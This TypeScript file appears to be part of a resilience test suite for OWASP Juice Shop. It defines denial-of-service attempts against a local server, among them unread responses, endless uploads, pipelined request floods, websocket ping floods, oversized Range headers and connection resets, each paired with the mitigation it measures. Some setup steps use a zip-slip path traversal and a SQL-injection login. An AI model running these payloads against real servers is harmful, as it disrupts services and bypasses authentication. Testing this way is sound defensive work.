import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { zipSync } from 'fflate';
import { sendFile } from '../../api/complaints/send-file.ts';
import { askAndLeaveMany } from '../../api/frame/slow-readers.ts';
import { createClient } from '../../support/client.ts';
import { newCustomer } from '../../support/customer.ts';
import { multipartBody, multipartType } from '../../support/multipart.ts';
import type { Stall, StallTarget } from './stall.ts';

const unread = 'a response that nobody reads';
const endless = 'an endless queue';
const compiler = '/assets/public/solc/0.8.21/soljson.wasm';
const json = 'Content-Type: application/json';

/** Attempts with responses, bodies and connections. */
export const answersStalls: readonly Stall[] = [
  {
    cause: unread,
    through: '`/ftp`',
    title: '400 clients that read nothing of a file of 60 MiB',
    measure: 'files that are read while they are sent',
    harm: 'memory',
    controlScale: 0.1,
    fills: true,
    attack: async (target) => {
      const archive = zipSync({ '../../ftp/large.md': new Uint8Array(60 * 1024 * 1024) });
      await sendFile(target.url, 'a.zip', Buffer.from(archive));
      await askAndLook(target, 400, '/ftp/large.md');
    },
  },
  {
    cause: unread,
    through: 'uploaded photos',
    title: '400 clients that read nothing of a photo of 9 MB',
    measure: 'files that are read while they are sent',
    harm: 'memory',
    controlScale: 0.1,
    fills: true,
    attack: async (target) => {
      const token = await createClient(target.url).login("jim@juice-sh.op'--", 'x');
      const photo = multipartBody({ field: 'image', fileName: 'a.png', type: 'image/png', content: Buffer.alloc(9e6) });
      const answer = await fetch(`${target.url}/rest/memories`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': multipartType },
        body: new Uint8Array(photo),
      });
      await askAndLook(target, 400, `/${(await answer.json()).data.imagePath}`);
    },
  },
  {
    cause: unread,
    through: 'packed files',
    title: '200 clients that request a decompressed compiler and read nothing',
    measure: 'one decompressed copy for all of them',
    harm: 'memory',
    controlScale: 0.4,
    attack: (target) => askAndLook(target, 200, compiler),
  },
  {
    cause: unread,
    through: 'reviews',
    title: '200 clients that read nothing of responses of 4 MB',
    measure: 'a budget of bytes under way; clients that read nothing are closed first',
    harm: 'memory',
    controlScale: 0.15,
    fills: true,
    attack: async (target) => {
      await fillReviews(target.url, [1, 6]);
      await Promise.all([1, 6].map((product) => askAndLook(target, 100, `/rest/products/${product}/reviews`)));
    },
  },
  {
    cause: unread,
    through: 'reviews',
    title: '150 clients that want responses of 4 MB compressed',
    measure: 'a limit on what is compressed at once, and the same bytes for all who want the same',
    harm: 'memory',
    controlScale: 0.2,
    fills: true,
    attack: async (target) => {
      await fillReviews(target.url, [1]);
      await askAndLook(target, 150, '/rest/products/1/reviews', ['Accept-Encoding: br']);
    },
  },
  {
    cause: unread,
    through: 'notifications',
    title: 'more than a million pings, and no pong read',
    measure: 'a connection that reads nothing is closed',
    harm: 'memory',
    controlScale: 0.3,
    attack: async (target) => {
      const socket = await upgraded(target, '/socket.io/?EIO=4&transport=websocket');
      socket.pause();
      // A ping without data, masked with zeros.
      const pings = Buffer.alloc(60_000, Buffer.from([0x89, 0x80, 0, 0, 0, 0]));
      for (let count = 0; count < 160 * target.scale && !socket.destroyed; count += 1) {
        socket.write(pings);
        await wait(5);
      }
    },
  },
  {
    cause: endless,
    through: 'one connection',
    title: '10,000 requests at once that wait for no response',
    measure:
      'requests of one connection are served in turn, with those of others in between; more than 100 queued end it',
    harm: 'memory',
    controlScale: 0.4,
    attack: async (target) => {
      const socket = opened(target);
      socket.write('GET /api/Challenges?in=line HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(10_000 * target.scale));
      await wait(1000);
    },
  },
  {
    cause: endless,
    through: 'bodies of requests',
    title: '5,000 logins that never end',
    measure: 'a limit on connections, at which idle ones are closed, and a budget of incoming bytes',
    harm: 'memory',
    controlScale: 0.3,
    attack: async (target) => {
      const head = `POST /rest/user/login HTTP/1.1\r\nHost: localhost\r\n${json}\r\nContent-Length: 100000\r\n\r\n`;
      const begun = head + 'a'.repeat(99_000);
      for (let count = 0; count < 5000 * target.scale; count += 100) {
        await Promise.all(Array.from({ length: 100 }, () => sent(opened(target), begun)));
      }
    },
  },
  {
    cause: endless,
    through: 'uploads',
    title: '60 photos that never end',
    measure: 'a budget of incoming bytes; whoever has sent most is closed first',
    harm: 'memory',
    controlScale: 0.25,
    attack: async (target) => {
      const part = `--x\r\nContent-Disposition: form-data; name="image"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n`;
      const type = 'Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 9900000';
      const begun = `POST /rest/memories HTTP/1.1\r\nHost: localhost\r\n${type}\r\n\r\n${part}${'a'.repeat(9_500_000)}`;
      await Promise.all(Array.from({ length: 60 * target.scale }, () => sent(opened(target), begun)));
    },
  },
  {
    cause: endless,
    through: '`/ftp`',
    title: '600 confirmations of orders drawn at once',
    measure: 'one is drawn after the other, and a full queue refuses',
    harm: 'silence',
    attack: async (target) => {
      const client = createClient(target.url);
      const customer = await newCustomer(client);
      await customer.fill(1, 1);
      const ordered = await client.post(`/rest/basket/${customer.basket}/checkout`, {}, customer);
      const path = `/ftp/order_${ordered.json().orderConfirmation}.pdf`;
      await Promise.all(Array.from({ length: 600 * target.scale }, () => client.get(path)));
    },
  },
  {
    cause: endless,
    through: 'notifications',
    title: 'a body of half a million messages',
    measure: 'a limit on the size of messages from pages, and on their number per second',
    harm: 'silence',
    attack: async ({ url, scale }) => {
      const polling = `${url}/socket.io/?EIO=4&transport=polling`;
      const { sid } = JSON.parse((await (await fetch(polling)).text()).slice(1));
      const talk = (body: string) => fetch(`${polling}&sid=${sid}`, { method: 'POST', body });
      await talk('40');
      await talk('42["verifyLocalXssChallenge","x"]\u001e'.repeat(500_000 * scale).slice(0, -1));
    },
  },
  {
    cause: endless,
    through: 'notifications',
    title: '50,000 pages that connect and never ask again',
    measure: 'a limit on pages, at which the oldest is closed',
    harm: 'memory',
    controlScale: 0.4,
    attack: async (target) => {
      const one = 'GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: localhost\r\n\r\n';
      for (let count = 0; count < 50_000 * target.scale; count += 500) {
        const socket = opened(target);
        socket.write(one.repeat(500));
        await once(socket, 'data');
      }
    },
  },
  {
    cause: 'a pattern over long text',
    through: '`Range`',
    title: 'twenty ranges of nothing but spaces',
    measure: 'ranges are parsed by a library that reads each character once',
    harm: 'silence',
    attack: async (target) => {
      const range = `Range: bytes=${' '.repeat(15_000)}x`;
      const head = ['GET /ftp/legal.md HTTP/1.1', 'Host: localhost', range, 'Connection: close', '', ''].join('\r\n');
      await Promise.all(Array.from({ length: 20 * target.scale }, () => ended(target, head)));
    },
  },
  {
    cause: 'a pattern over long text',
    through: '`/ftp`',
    title: 'paths of seven thousand parts',
    measure: 'a path is followed only as far as it exists',
    harm: 'silence',
    attack: async (target) => {
      const head = `GET /ftp${'/a'.repeat(7000)} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`;
      await Promise.all(Array.from({ length: 10 * target.scale }, () => ended(target, head)));
    },
  },
  {
    cause: 'an uncaught error',
    through: '`/rpc` and notifications',
    title: 'connections that are reset while they are handed over',
    measure: 'every connection has an error handler from its first moment',
    harm: 'death',
    attack: async (target) => {
      const paths = ['/rpc', '/socket.io/?EIO=4&transport=websocket', '/socket.io/nothing', '/socket.io/?transport=x'];
      for (const path of paths) {
        for (const pause of [0, 0, 5, 20, 50]) {
          const socket = opened(target);
          socket.write(upgrade(path));
          await once(socket, 'connect');
          await wait(pause);
          socket.resetAndDestroy();
        }
      }
    },
  },
];

/** Opens a connection that the attempt leaves open. */
function opened({ port, onEnd }: StallTarget): Socket {
  const socket = connect(port, '127.0.0.1');
  socket.on('error', () => {});
  onEnd(() => socket.destroy());
  return socket;
}

/** Resolves when the bytes have been sent, or nobody reads them any more. */
function sent(socket: Socket, bytes: string): Promise<void> {
  return new Promise((resolve) => {
    socket.once('close', () => resolve());
    socket.write(bytes, () => resolve());
  });
}

/** Sends a request and resolves when its connection has ended. */
async function ended(target: StallTarget, bytes: string): Promise<void> {
  const socket = opened(target);
  socket.resume();
  socket.write(bytes);
  await once(socket, 'close');
}

/** Sends that many requests, reads no response, and stays like that for two seconds. */
async function askAndLook({ port, scale, onEnd }: StallTarget, count: number, path: string, headers: string[] = []) {
  onEnd(askAndLeaveMany(count * scale, port, path, headers));
  await wait(2000);
}

/** Writes reviews of 4 MB in all for each of these products. */
async function fillReviews(url: string, products: readonly number[]): Promise<void> {
  const body = { message: 'x'.repeat(9000), author: 'a@juice-sh.op' };
  for (const product of products) {
    for (let count = 0; count < 450; count += 50) {
      await Promise.all(
        Array.from({ length: 50 }, () => createClient(url).put(`/rest/products/${product}/reviews`, body)),
      );
    }
  }
}

function upgrade(path: string): string {
  const key = 'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==';
  return `GET ${path} HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n${key}\r\n\r\n`;
}

async function upgraded(target: StallTarget, path: string): Promise<Socket> {
  const socket = opened(target);
  socket.write(upgrade(path));
  await once(socket, 'data');
  return socket;
}
